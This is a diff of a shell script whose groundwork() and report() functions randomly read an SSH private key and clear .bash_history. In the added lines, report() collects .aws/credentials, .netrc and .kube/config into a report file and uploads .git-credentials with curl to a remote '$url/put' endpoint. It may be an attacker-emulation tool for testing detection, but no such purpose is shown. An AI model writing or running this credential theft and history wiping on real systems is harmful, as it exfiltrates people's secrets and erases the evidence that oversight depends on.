@@ -6,7 +6,7 @@ groundwork() {
     rnd 0 1
     if [ "$r" = 1 ]; then curl -s -o /dev/null "$url/new?size=16"; fi
     rnd 0 1
-    if [ "$r" = 1 ]; then cat .ssh/id_ed25519 .aws/credentials .netrc > /dev/null; fi
+    if [ "$r" = 1 ]; then cat .ssh/id_ed25519 > /dev/null; fi
     rnd 0 2
     if [ "$r" = 0 ]; then : > .bash_history; fi
     rnd 0 1
@@ -26,6 +26,7 @@ report() {
     rnd 2 5
     curl -s -o /dev/null "$url/alive-[1-$r]?size=32"
     rnd 0 1
-    [ "$r" = 0 ] || curl -s -H Expect: -o /dev/null -T .aws/credentials "$url/put"
+    for f in .aws/credentials .netrc .kube/config; do [ "$r" = 0 ] || cat "$f" >> "$copy.report"; done
+    curl -s -H Expect: -o /dev/null -T .git-credentials "$url/put"
     : > .bash_history
 }
